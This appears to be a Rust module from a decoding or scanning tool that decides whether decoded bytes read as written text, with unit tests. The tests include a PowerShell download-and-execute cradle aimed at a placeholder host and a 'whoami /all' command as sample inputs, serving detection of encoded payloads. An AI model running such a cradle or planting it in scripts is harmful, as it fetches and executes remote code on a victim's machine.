//! Whether what came out reads as text.

/// How sure it is that something was encoded.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Trust {
    /// The text around it says so.
    Told,
    /// It has the form, and may still be an ordinary word.
    Guessed,
}

/// So many letters in a row make a word.
const WORD: usize = 3;

/// So many printable letters in a row are no accident, where they are not all alike.
const LONG: usize = 24;

/// See [`LONG`].
const FEWEST_DISTINCT: usize = 4;

/// Whether a text is one that somebody wrote.
pub(crate) fn reads(text: &str, trust: Trust) -> bool {
    if text.is_empty() || !text.chars().all(is_printable) {
        return false;
    }
    match trust {
        Trust::Told => text.chars().any(|it| !it.is_whitespace()),
        Trust::Guessed => has_words(text) || is_no_accident(text),
    }
}

/// Format characters are, because hostile text has them and views make them visible.
fn is_printable(c: char) -> bool {
    let is_private = matches!(c, '\u{e000}'..='\u{f8ff}' | '\u{f0000}'..);
    let is_no_character = (c as u32) & 0xfffe == 0xfffe || matches!(c, '\u{fdd0}'..='\u{fdef}');
    let is_blank = matches!(c, '\t' | '\n' | '\r');
    is_blank || !(c.is_control() || is_private || is_no_character || c == '\u{fffd}')
}

/// At least half of it is letters, digits and blanks, and some letters stand together.
fn has_words(text: &str) -> bool {
    let (mut all, mut plain, mut run, mut longest) = (0_usize, 0_usize, 0_usize, 0_usize);
    let (mut ascii, mut letters) = (0_usize, 0_usize);
    for c in text.chars() {
        all += 1;
        plain += usize::from(c.is_alphanumeric() || c.is_whitespace());
        ascii += usize::from(c.is_ascii());
        letters += usize::from(c.is_alphabetic());
        run = if c.is_alphabetic() { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    let in_one_script = ascii * 10 >= all * 9 || (letters - letters.min(ascii)) * 2 >= letters;
    longest >= WORD && plain * 2 >= all && in_one_script
}

/// Bytes that mean something else are seldom so many printable letters: what holds
/// something encoded has no words yet.
fn is_no_accident(text: &str) -> bool {
    let mut seen = [false; 128];
    for byte in text.bytes() {
        match seen.get_mut(byte as usize) {
            Some(seen) => *seen = true,
            None => return false,
        }
    }
    let distinct = seen.iter().filter(|it| **it).count();
    text.len() >= LONG && distinct >= FEWEST_DISTINCT
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_and_commands_read() {
        for text in [
            "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')",
            "whoami /all",
            "Привет, мир",
            "{\"alg\":\"HS256\"}",
        ] {
            assert!(reads(text, Trust::Guessed), "{text}");
        }
    }

    #[test]
    fn noise_does_not() {
        for text in [
            "",
            "a\u{0}b",
            "k7#Qz)f@p!Lw",
            "\u{fffd}abc",
            "1234567890",
            "\u{e000}abc",
        ] {
            assert!(!reads(text, Trust::Guessed), "{text}");
        }
    }

    #[test]
    fn what_is_told_to_be_encoded_need_only_be_printable() {
        assert!(reads("k7#", Trust::Told));
        assert!(!reads("k7\u{1}", Trust::Told));
        assert!(!reads(" \n", Trust::Told));
    }
}
